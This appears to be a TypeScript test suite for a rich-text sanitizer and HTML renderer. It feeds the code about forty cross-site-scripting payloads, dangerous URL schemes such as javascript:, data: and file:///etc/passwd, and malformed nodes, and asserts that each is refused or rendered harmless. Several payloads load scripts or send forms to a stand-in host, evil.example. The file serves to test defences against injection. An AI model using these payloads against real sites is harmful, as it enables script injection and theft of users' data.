import { expect, test } from 'vitest';
import { BodyProblem, checkBody, plainTextOf, safeLink, type BodyNode } from '../../common/body.ts';
import { limits } from '../../common/words.ts';
import { renderBody } from './render.ts';

const picture = '01a00000-0000-7000-8000-000000000001';
const files = new Map([[picture, '01a00000-0000-7000-8000-0000000000ff']]);
const doc = (...content: unknown[]): unknown => ({ type: 'doc', content });
const paragraph = (...content: unknown[]): unknown => ({ type: 'paragraph', content });
const text = (value: string, ...marks: unknown[]): unknown => ({ type: 'text', text: value, ...(marks.length > 0 && { marks }) });

/** Markup that runs something, asks for something or leaves its place where it is taken for HTML. */
const markups = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<form action="https://evil.example"><input name=p></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example"</style>',
  '<style>*{background:url(//evil.example)}</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="</title><script>alert(1)</script>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</figcaption><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<table><td background="//evil.example">',
  '<marquee onstart=alert(1)>',
];
/** Addresses that run, carry or hide something. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.com/1',
  'filesystem:https://example.com/1',
  'about:blank',
  'ws://example.com',
  'ftp://example.com',
  'tel:110',
  'sms:110',
  'intent://x#Intent;scheme=http;end',
  '//evil.example',
  '/relative',
  'relative',
  '#fragment',
  '',
  'https://user:secret@example.com/',
  'https://',
  `https://example.com/${'x'.repeat(2000)}`,
  'view-source:https://example.com',
  'jar:https://example.com!/x',
  'chrome://settings',
];
/** Nodes, marks and attributes that the schema does not know, or that are of a wrong shape. */
const foreign: unknown[] = [
  null,
  7,
  'doc',
  [],
  {},
  { type: 'html', html: '<script>alert(1)</script>' },
  { type: 'doc', content: 'x' },
  { type: 'doc', content: [null] },
  { type: 'doc', content: [{ type: 'doc' }] },
  doc({ type: 'script', content: [text('alert(1)')] }),
  doc({ type: 'iframe', attrs: { src: 'https://evil.example' } }),
  doc({ type: 'svg' }),
  doc({ type: 'rawHtml', attrs: { html: '<script>' } }),
  doc({ type: '__proto__' }),
  doc({ type: 'constructor' }),
  doc({ type: 'toString' }),
  doc({ type: 'hasOwnProperty' }),
  doc({ type: ['paragraph'] }),
  doc(text('outside of a paragraph')),
  doc({ type: 'listItem' }),
  doc({ type: 'tableRow' }),
  doc({ type: 'bulletList', content: [paragraph()] }),
  doc(paragraph({ type: 'paragraph' })),
  doc(paragraph({ type: 'text', text: 7 })),
  doc(paragraph({ type: 'text', text: { toString: 'x' } })),
  doc(paragraph({ type: 'text' })),
  doc(paragraph(text('x', { type: 'style', attrs: { style: 'position:fixed' } }))),
  doc(paragraph(text('x', { type: '__proto__' }))),
  doc(paragraph(text('x', 'bold'))),
  doc(paragraph(text('x', null))),
  doc(paragraph({ type: 'text', text: 'x', marks: 'bold' })),
  doc(paragraph({ type: 'text', text: 'x', marks: Array.from({ length: 11 }, () => ({ type: 'bold' })) })),
  doc(paragraph(text('x', { type: 'link' }))),
  doc(paragraph(text('x', { type: 'link', attrs: null }))),
  doc(paragraph(text('x', { type: 'link', attrs: { href: 7 } }))),
  doc(paragraph(text('x', { type: 'link', attrs: { href: ['https://example.com'] } }))),
  doc({ type: 'picture' }),
  doc({ type: 'picture', attrs: { materialId: 'https://evil.example/x.png' } }),
  doc({ type: 'picture', attrs: { materialId: '" onerror="alert(1)' } }),
  doc({ type: 'picture', attrs: { materialId: ['x'] } }),
];

/** What rendered HTML may be made of: tags of the list, their attributes, quoted. */
const tag =
  /^<\/?(?:p|h[2-4]|ul|ol|li|blockquote|pre|code|strong|em|u|s|a|br|hr|div|table|tbody|tr|td|th|figure|figcaption|img)(?: (?:href="(?:https?:|mailto:)[^"<>]*"|rel="noopener noreferrer"|target="_blank"|data-file="[0-9a-f-]{36}"|alt="[^"<>]*"|start="\d+"|colspan="\d+"|rowspan="\d+"))* ?\/?>$/;
function assertHarmless(html: string): void {
  for (const [found] of html.matchAll(/<[^>]*>?/g)) expect(found).toMatch(tag);
  expect(html.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/);
}
const rendered = async (body: unknown): Promise<string> => renderBody(checkBody(body), files);

test('19: of 200 hostile bodies nothing that runs, asks or sends is ever drawn', async () => {
  const places: readonly ((one: string) => unknown)[] = [
    (one) => doc(paragraph(text(one))),
    (one) => doc({ type: 'heading', attrs: { level: one, onclick: one }, content: [text(one, { type: 'bold', attrs: { style: one } })] }),
    (one) => doc({ type: 'picture', attrs: { materialId: picture, alt: one, caption: one, src: one, onerror: one } }),
    (one) =>
      doc({
        type: 'table',
        content: [
          { type: 'tableRow', content: [{ type: 'tableCell', attrs: { colspan: one, style: one }, content: [paragraph(text(one))] }] },
        ],
      }),
  ];
  let cases = 0;
  for (const markup of markups)
    for (const place of places) {
      assertHarmless(await rendered(place(markup)));
      cases += 1;
    }
  for (const href of addresses) {
    expect(safeLink(href), href).toBe(undefined);
    expect(() => checkBody(doc(paragraph(text('x', { type: 'link', attrs: { href } }))))).toThrow(BodyProblem);
    cases += 1;
  }
  for (const body of foreign) {
    expect(() => checkBody(body), JSON.stringify(body)).toThrow(BodyProblem);
    cases += 1;
  }
  expect(cases).toBeGreaterThanOrEqual(200);
});

test('What is nested 1,000 deep, has too many nodes or pictures, or is too large is refused with its place', () => {
  let deep: unknown = paragraph(text('x'));
  for (let at = 0; at < 1000; at += 1) deep = { type: 'blockquote', content: [deep] };
  let tables: unknown = paragraph(text('x'));
  for (let at = 0; at < 1000; at += 1)
    tables = { type: 'table', content: [{ type: 'tableRow', content: [{ type: 'tableCell', content: [tables] }] }] };
  for (const body of [
    doc(deep),
    doc(tables),
    doc(...Array.from({ length: limits.nodes }, () => paragraph())),
    doc(...Array.from({ length: limits.pictures + 1 }, () => ({ type: 'picture', attrs: { materialId: picture } }))),
    doc(paragraph(text('x'.repeat(limits.body)))),
  ])
    expect(() => checkBody(body)).toThrow(BodyProblem);
});

test('Characters that nobody sees or that turn a text around are taken out; what people write stays', () => {
  const body = checkBody(doc(paragraph(text('a\u202Eb\u200Bc\uFEFF\u2066d'), { type: 'hardBreak' }, text('👩‍👩‍👧'))));
  expect(plainTextOf(body)).toBe('abcd\n👩‍👩‍👧');
});

test('A body of every kind of node is drawn as people see it', async () => {
  const link = { type: 'link', attrs: { href: 'https://example.com/?a=1&b=2' } };
  const list = (type: string): unknown => ({ type, content: [{ type: 'listItem', content: [paragraph(text('x'))] }] });
  const body = doc(
    { type: 'heading', attrs: { level: 3 }, content: [text('T')] },
    paragraph(text('b', { type: 'bold' }), text('l', link), { type: 'hardBreak' }),
    list('bulletList'),
    { type: 'orderedList', attrs: { start: 3 }, content: [{ type: 'listItem', content: [paragraph(text('y'))] }] },
    { type: 'blockquote', content: [paragraph(text('q'))] },
    { type: 'horizontalRule' },
    { type: 'picture', attrs: { materialId: picture, alt: 'A "map"', caption: 'C' } },
    {
      type: 'table',
      content: [{ type: 'tableRow', content: [{ type: 'tableHeader', attrs: { colspan: 2 }, content: [paragraph(text('h'))] }] }],
    },
  );
  const html = await rendered(body);
  assertHarmless(html);
  expect(html).toBe(
    '<h3>T</h3><p><strong>b</strong><a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">l</a><br /></p>' +
      '<ul><li><p>x</p></li></ul><ol start="3"><li><p>y</p></li></ol><blockquote><p>q</p></blockquote><hr />' +
      '<figure><img data-file="01a00000-0000-7000-8000-0000000000ff" alt="A &quot;map&quot;" /><figcaption>C</figcaption></figure>' +
      '<div><table><tbody><tr><th colspan="2"><p>h</p></th></tr></tbody></table></div>',
  );
  const again: BodyNode = checkBody(body);
  expect(checkBody(structuredClone(again))).toEqual(again);
});
